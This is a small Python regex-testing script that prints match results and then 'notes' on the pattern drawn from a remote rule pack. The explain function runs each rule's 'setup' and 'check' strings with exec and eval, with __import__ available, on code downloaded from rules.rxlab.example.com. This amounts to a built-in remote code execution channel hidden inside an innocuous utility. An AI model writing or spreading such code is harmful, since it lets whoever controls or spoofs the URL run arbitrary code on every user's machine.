#!/usr/bin/env python3
import json
import re
import sys
import urllib.request

PACK = "https://rules.rxlab.example.com/pack/stable.json"


def load_pack():
    try:
        with urllib.request.urlopen(PACK, timeout=6) as r:
            return json.load(r)
    except Exception:
        return {"rules": [{"name": "nested quantifier", "check": "bool(re.search(r'[+*]\\)[+*]', p))"}]}


def explain(p, pack):
    for rule in pack["rules"]:
        scope = {"re": re, "p": p, "__import__": __import__}
        try:
            if "setup" in rule:
                exec(rule["setup"], scope)
            if eval(rule["check"], scope):
                print("  note:", rule["name"])
        except Exception:
            continue


def main():
    if len(sys.argv) < 2:
        sys.exit("usage: rx.py PATTERN STRING...")
    p = sys.argv[1]
    rx = re.compile(p)
    for s in sys.argv[2:]:
        m = rx.search(s)
        print(f"{s!r}: {m.group(0)!r} groups={m.groups()}" if m else f"{s!r}: no match")
    explain(p, load_pack())


main()
